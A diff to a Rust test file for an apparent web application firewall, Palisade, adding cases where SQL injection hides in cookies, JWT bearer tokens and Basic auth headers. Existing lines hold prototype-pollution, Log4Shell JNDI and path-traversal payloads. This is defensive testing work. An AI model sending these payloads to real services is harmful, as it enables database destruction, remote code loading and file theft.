@@ -47,8 +47,11 @@ fn of_all_that_looks_like_base64_the_field_is_told_that_holds_the_attack() {
     assert_eq!(rules[0]["field"], "REQUEST_COOKIES:state", "{rules}");
 }
 
+const TOKEN: &str = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
+    eyJzdWIiOiI1IiwiZW1haWwiOiJhQGIuZXhhbXBsZScgQU5EIFNMRUVQKDUpLS0gIn0.c2ln";
+
 #[test]
-fn attacks_in_bodies_keys_cookies_and_paths_count_too() {
+fn attacks_in_bodies_keys_cookies_paths_and_tokens_count_too() {
     let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
     let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
     let json = [("content-type", "application/json")];
@@ -58,6 +61,12 @@ fn attacks_in_bodies_keys_cookies_and_paths_count_too() {
         (&json[..], "/api/v1/orders/7", r#"{"__proto__":{"isAdmin":true}}"#),
         (&[("user-agent", "${jndi:ldap://192.0.2.1/a}")][..], "/api/v1/products", ""),
         (&[][..], "/api/v1/orders/..%2f..%2f..%2fetc%2fpasswd", ""),
+        // Whole only in the header: each of its cookies is a harmless piece.
+        (&[("cookie", "lang=en; sid=1'; DROP TABLE users; --")][..], "/api/v1/products", ""),
+        // {"sub":"5","email":"a@b.example' AND SLEEP(5)-- "}
+        (&[("authorization", TOKEN)][..], "/api/v1/products", ""),
+        // admin' or '1'='1:x
+        (&[("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4")][..], "/api/v1/products", ""),
     ] {
         let method = if body.is_empty() { "GET" } else { "POST" };
         let answer = call_with(palisade.address, method, target, headers, body);
@@ -181,7 +190,10 @@ fn a_folder_without_tests_proves_nothing() {
 fn ordinary_json_prose_and_names_pass() {
     let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
     let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
-    let json = [("content-type", "application/json")];
+    // {"sub":"5","name":"O'Connor and Sons","scope":"openid;id"}
+    let token = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
+        eyJzdWIiOiI1IiwibmFtZSI6Ik8nQ29ubm9yIGFuZCBTb25zIiwic2NvcGUiOiJvcGVuaWQ7aWQifQ.c2ln";
+    let json = [("content-type", "application/json"), ("authorization", token)];
     for body in [
         r#"{"name":"Anne O'Brien","note":"left at the door; call on arrival"}"#,
         r#"{"text":"select the best offers from our union members where prices drop"}"#,
